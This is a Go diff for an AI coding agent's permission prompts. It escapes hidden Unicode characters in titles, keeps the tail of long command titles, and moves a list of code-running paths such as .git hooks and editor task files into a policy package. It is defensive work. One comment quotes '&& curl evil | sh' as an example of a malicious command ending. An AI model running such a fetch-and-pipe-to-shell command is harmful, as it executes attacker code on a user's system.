@@ -5,12 +5,17 @@ import (
 	"path/filepath"
 	"strings"
 	"unicode"
+
+	"github.com/acp-agent/acp-agent/agent/policy"
 )
 
 // EscapeTitle makes s safe to show as one line: control characters
-// (newlines included) and bidirectional formatting characters (which can
-// make a title read differently from what runs) become visible \n, \t or
-// \u{XXXX} escapes, so what the person reads is what the call contains.
+// (newlines included), every format character (Unicode Cf: bidirectional
+// controls, zero-width spaces and joiners, which can make a title read
+// differently from what runs) and every separator but the plain space
+// (line and paragraph separators, no-break and other odd spaces) become
+// visible \n, \t or \u{XXXX} escapes, so what the person reads is what
+// the call contains.
 func EscapeTitle(s string) string {
 	clean := true
 	for _, r := range s {
@@ -40,28 +45,32 @@ func EscapeTitle(s string) string {
 	return b.String()
 }
 
-// hiddenRune reports a control, bidi formatting or invalid rune.
+// hiddenRune reports a control, format, separator other than the space,
+// or invalid rune.
 func hiddenRune(r rune) bool {
-	if r == unicode.ReplacementChar || unicode.IsControl(r) {
-		return true
-	}
 	switch {
-	case r == 0x061C, r == 0x200E, r == 0x200F, // ALM, LRM, RLM
-		r >= 0x202A && r <= 0x202E, // LRE, RLE, PDF, LRO, RLO
-		r >= 0x2066 && r <= 0x2069: // LRI, RLI, FSI, PDI
+	case r == ' ':
+		return false
+	case r == unicode.ReplacementChar, unicode.IsControl(r),
+		unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp, unicode.Zs):
 		return true
 	}
 	return false
 }
 
 // CommandTitle is the title of a command's permission request: the exact
-// command line, escaped, shortened with an ellipsis past max runes.
+// command line, escaped; past max runes its head and its tail are kept
+// around an ellipsis (what a long command ends with is often what it
+// does: "… && curl evil | sh").
 func CommandTitle(command string, max int) string {
 	t := EscapeTitle(strings.TrimSpace(command))
-	if r := []rune(t); len(r) > max {
-		t = string(r[:max]) + "…"
+	r := []rune(t)
+	if len(r) <= max {
+		return t
 	}
-	return t
+	tail := max / 3
+	head := max - tail - 1
+	return string(r[:head]) + "…" + string(r[len(r)-tail:])
 }
 
 // TitlePath is how a permission title names p: its path relative to the
@@ -108,24 +117,16 @@ func ProtectedReason(cwd string, p Path) string {
 	return ""
 }
 
-func protectedRel(rel string) string {
-	parts := strings.Split(rel, "/")
-	for i, part := range parts {
-		switch strings.ToLower(part) {
-		case ".git":
-			return "a write under .git/ can run code the next time git runs (hooks, core.fsmonitor and other config)"
-		case ".acp-agent":
-			return "this is the agent's own settings directory (its permission rules)"
-		case ".vscode", ".zed":
-			if i+1 < len(parts) {
-				switch strings.ToLower(parts[i+1]) {
-				case "tasks.json", "launch.json":
-					return "the editor runs the commands in its task and launch files"
-				}
-			}
-		case ".idea":
-			return "the editor runs the commands in its run configurations (.idea/)"
-		}
+func protectedRel(rel string) string { return policy.ProtectedRel(rel) }
+
+// ResolvedSubject is p's resolved location as rules match it: relative to
+// the real cwd when inside it, else absolute.
+func ResolvedSubject(p Path) string {
+	if p.Real == "" {
+		return ""
 	}
-	return ""
+	if p.RealCwd != "" && Within(p.RealCwd, p.Real) {
+		return DisplayPath(p.RealCwd, p.Real)
+	}
+	return p.Real
 }
